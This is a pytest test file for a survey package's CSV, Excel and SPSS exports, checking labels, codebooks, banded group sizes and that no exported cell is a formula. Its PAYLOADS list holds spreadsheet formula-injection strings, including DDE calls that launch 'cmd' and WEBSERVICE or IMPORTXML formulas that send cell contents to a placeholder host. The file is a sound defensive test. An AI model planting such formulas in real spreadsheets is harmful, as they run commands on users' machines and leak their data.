"""Exported tables: what they tell, what they keep, and that no cell is ever computed."""

import csv
import io
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest

from diagnostics.demonstration.population import Population
from diagnostics.exports.answers import answer_table
from diagnostics.exports.figures import figure_tables, item_places
from diagnostics.exports.files import csv_file, sav_file, xlsx_file
from diagnostics.exports.tables import ColumnKind, ExportColumn, ExportTable, codebook
from diagnostics.scoring.assessing import assess
from diagnostics.scoring.definitions import default_method
from diagnostics.scoring.older_results import FIRST_METHOD
from diagnostics.scoring.results import METHOD_VERSION, AssessmentResult
from survey.instrument.content import Instrument
from survey.release.exclusions import ExclusionRules
from survey.release.plan import release
from survey.release.tables import Plan, ReleasedTables

DAY = date(2026, 11, 20)
SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "\x00=",
    "\u202e=",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"open")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'WEBSERVICE("http://x.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0\n=1",
    "@SUM(1+1)*cmd",
    '"=1+1',
    "A1;=1+1",
    "A1,=1+1",
    "\x0b\x1f=1",
]
PAYLOADS = [sign + body for sign in SIGNS for body in BODIES]


@pytest.fixture(scope="module")
def released(
    population: Population, instrument: Instrument
) -> tuple[ReleasedTables, pd.DataFrame, AssessmentResult]:
    """Return the demonstration's release, its rows and its result."""
    method = default_method(instrument)
    tables, rows = release(
        population.answers,
        population.tree(),
        instrument,
        floor=method.floor,
        sensitive_floor=method.sensitive_floor,
        exclusion_rules=ExclusionRules(),
    )
    return tables, rows, assess(tables, rows, instrument=instrument, method=method)


@pytest.fixture(scope="module")
def figures(
    released: tuple[ReleasedTables, pd.DataFrame, AssessmentResult], instrument: Instrument
) -> dict[str, ExportTable]:
    """Return the tables of figures by name."""
    tables, _, result = released
    made = figure_tables(
        result, tables, instrument, codes={key: key for key in tables.tree.keys}, language="en"
    )
    return {table.name: table for table in made}


def records(table: ExportTable) -> list[dict[str, object]]:
    names = [column.name for column in table.columns]
    return [dict(zip(names, row, strict=True)) for row in table.rows]


def texts(payloads: list[str]) -> ExportTable:
    return ExportTable(
        "texts",
        "Texts",
        (ExportColumn("text", "Text", ColumnKind.TEXT),),
        tuple((payload,) for payload in payloads),
    )


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_no_cell_of_a_csv_file_begins_as_a_formula() -> None:
    content = csv_file(texts(PAYLOADS)).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(content))][1:]
    assert len(cells) == len(PAYLOADS)
    assert [cell for cell in cells if cell[:1] in set("=+-@|%＝＋－＠\t\r\n ")] == []
    assert [cell for cell in cells if any(ord(sign) < 32 for sign in cell)] == []


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    content = xlsx_file([texts(PAYLOADS)], title="=1+1", day=DAY)
    sheet = openpyxl.load_workbook(io.BytesIO(content))["texts"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        markup = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in markup
    assert "hyperlink" not in markup


def test_a_workbook_has_typed_cells_labels_and_a_frozen_header(
    figures: dict[str, ExportTable],
) -> None:
    tables = [*figures.values(), codebook(tuple(figures.values()))]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file(tables, title="x", day=DAY)))
    assert book.sheetnames == ["scores", "verdicts", "pattern_tests", "items", "codebook"]
    sheet = book["scores"]
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]][:5] == [
        "unit",
        "unit_name",
        "function",
        "answers",
        "TF",
    ]
    assert sheet["C2"].value == "both functions"
    assert [sheet[place].data_type for place in ("A2", "C2", "E2")] == ["s", "s", "n"]


@pytest.mark.parametrize(
    ("version", "word"), [(FIRST_METHOD, "not contradicted"), (METHOD_VERSION, "supported")]
)
def test_a_finding_is_called_what_pages_call_it(
    released: tuple[ReleasedTables, pd.DataFrame, AssessmentResult],
    instrument: Instrument,
    version: int,
    word: str,
) -> None:
    tables, _, result = released
    result = replace(result, company=replace(result.company, method_version=version))
    made = figure_tables(
        result, tables, instrument, codes={key: key for key in tables.tree.keys}, language="en"
    )
    (found,) = [table for table in made if table.name == "pattern_tests"]
    (finding,) = [column for column in found.columns if column.name == "finding"]
    assert finding.values == {
        1: word,
        2: "among persons; units too few or too alike to tell",
        3: "goes with the outcome, but a plain sum of the elements says as much",
        4: "not shown",
        5: "too few answers",
    }


def test_an_spss_file_has_variable_and_value_labels(
    figures: dict[str, ExportTable], tmp_path: Path
) -> None:
    path = tmp_path / "verdicts.sav"
    path.write_bytes(sav_file(figures["verdicts"], day=DAY))
    frame, meta = pyreadstat.read_sav(path)
    assert len(frame) == len(figures["verdicts"].rows)
    assert meta.column_names_to_labels["stability"] == "Share of redraws with the same leader"
    assert meta.variable_value_labels["function"] == {
        0: "both functions",
        1: "service operations",
        2: "service sales",
    }
    assert str(meta.creation_time) == "2026-11-20 00:00:00"


def test_the_same_tables_give_the_same_bytes(figures: dict[str, ExportTable]) -> None:
    tables = list(figures.values())
    assert xlsx_file(tables, title="x", day=DAY) == xlsx_file(tables, title="x", day=DAY)
    for table in tables:
        assert sav_file(table, day=DAY) == sav_file(table, day=DAY)
        assert csv_file(table) == csv_file(table)


def test_groups_of_ten_name_statements_larger_ones_tell_means_and_sizes_are_bands(
    figures: dict[str, ExportTable],
    released: tuple[ReleasedTables, pd.DataFrame, AssessmentResult],
) -> None:
    tables, _, _ = released
    items = records(figures["items"])
    assert {row["answers"] for row in items} == {"10-19", "20-49", "50+"}
    small = [row for row in items if row["answers"] == "10-19"]
    assert {(row["mean"], row["place"]) for row in small} == {(None, 1), (None, 2)}
    means = [row["mean"] for row in items if row["answers"] != "10-19"]
    assert means == [round(float(str(mean)), 1) for mean in means]
    sensitive = {info.key for info in tables.sets if info.plan is Plan.SENSITIVE}
    told = tables.cells[tables.cells["set"].isin(sensitive) & (tables.cells["n"] >= 20)]
    assert len(means) == len(told)
    scores = records(figures["scores"])
    small = [row for row in scores if row["answers"] == "5-9"]
    assert small
    for row in small:
        shown = [row[code] for code in ("TF", "AD", "AG", "CF", "DSO") if row[code] is not None]
        assert [value for value in shown if round(float(str(value)), 1) != value] == []
        assert (row["RB"], row["RB_set"], row["TF_set"]) == (None, None, None)


def test_the_best_and_the_lowest_statements_are_those_of_the_means_and_never_of_what_is_sensitive(
    released: tuple[ReleasedTables, pd.DataFrame, AssessmentResult], instrument: Instrument
) -> None:
    tables, _, _ = released
    (company,) = [
        info for info in tables.sets
        if info.plan is Plan.SENSITIVE and info.unit == tables.tree.keys[0]
        and info.kind == "unit" and not info.function
    ]  # fmt: skip
    cells = tables.cells[tables.cells["set"] == company.key]
    means = dict(zip(cells["item"], cells["mean"], strict=True))
    turned = {
        item.code: 8 - means[item.code] if item.is_reversed else means[item.code]
        for construct, item in instrument.items()
        if item.code in means and not construct.is_sensitive
    }

    places = item_places(cells, instrument)

    ordered = sorted(turned, key=lambda code: turned[code])
    assert places == dict.fromkeys(ordered[:3], 2) | dict.fromkeys(ordered[-3:], 1)
    assert any(construct.is_sensitive for construct in instrument.constructs)
    assert item_places(cells.head(5), instrument) == {}


def test_verdicts_are_those_of_the_units_own_groups(
    figures: dict[str, ExportTable],
    released: tuple[ReleasedTables, pd.DataFrame, AssessmentResult],
) -> None:
    tables, _, result = released
    both = [row for row in records(figures["verdicts"]) if row["function"] == 0]
    own = [unit.unit for unit in result.units if unit.own_diagnosis]
    assert [row["unit"] for row in both] == own
    assert all(tables.unit_set(str(row["unit"]), Plan.SENSITIVE) for row in both)


def test_the_answers_name_no_unit_and_their_order_tells_none(
    released: tuple[ReleasedTables, pd.DataFrame, AssessmentResult], instrument: Instrument
) -> None:
    _, rows, _ = released
    table = answer_table(rows, instrument, language="en")
    names = [column.name for column in table.columns]
    assert names == [
        "function",
        *[name for name in rows.columns if name not in ("pool", "function")],
    ]
    assert len(table.rows) == len(rows)
    mixed = rows.sample(frac=1, random_state=np.random.default_rng(5))
    pools = mixed["pool"].to_numpy().copy()
    np.random.default_rng(6).shuffle(pools)
    assert answer_table(mixed.assign(pool=pools), instrument, language="en") == table
    told = {row["function"] for row in records(table)}
    assert told <= {None, 1, 2}


def test_the_codebook_explains_every_variable(figures: dict[str, ExportTable]) -> None:
    tables = tuple(figures.values())
    explained = [(row["table"], row["variable"]) for row in records(codebook(tables))]
    assert explained == [(table.name, column.name) for table in tables for column in table.columns]
